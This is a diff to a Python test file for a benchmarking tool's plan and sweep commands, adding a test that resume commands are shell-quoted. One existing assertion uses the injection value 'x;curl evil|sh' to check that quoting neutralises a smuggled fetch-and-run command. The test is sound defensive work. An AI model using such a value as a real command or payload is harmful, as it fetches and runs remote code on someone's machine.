@@ -5,7 +5,8 @@ from pathlib import Path
 import pytest
 
 from engines.runtime.own_packages import CONFIGS
-from flows.plan.samples import FileInTheWay, copy_samples, find_plan, plan_argument, sample_plans
+from flows.plan.changes import Changes
+from flows.plan.samples import FileInTheWay, copy_samples, find_plan, plan_argument, sample_plans, sweep_command
 from flows.plan.source import PlanError, load_plan
 
 
@@ -32,6 +33,14 @@ def test_a_sample_plan_is_called_by_its_name() -> None:
     assert plan_argument(CONFIGS / "cpu.yaml") == "cpu"
     assert plan_argument(Path("plans/cpu.yaml")) == "plans/cpu.yaml"
     assert plan_argument(Path("x;curl evil|sh")) == "'x;curl evil|sh'"  # a run's, which may be somebody else's
+
+
+def test_a_sweep_goes_on_by_the_command_that_it_was_begun_with() -> None:
+    """The run's page and `retry` print it: without the data root all that was scored would be scored again."""
+    changes = Changes(sets=("load[0].concurrency=8",), only=("gptq*",))
+    command = sweep_command(CONFIGS / "cpu.yaml", "my data", changes)
+    assert command == "bitfrontier sweep cpu --data-root 'my data' --set 'load[0].concurrency=8' --only 'gptq*'"
+    assert sweep_command(CONFIGS / "cpu.yaml", None, Changes()) == "bitfrontier sweep cpu"
 
 
 def test_copies_overwrite_nothing(tmp_path: Path) -> None:
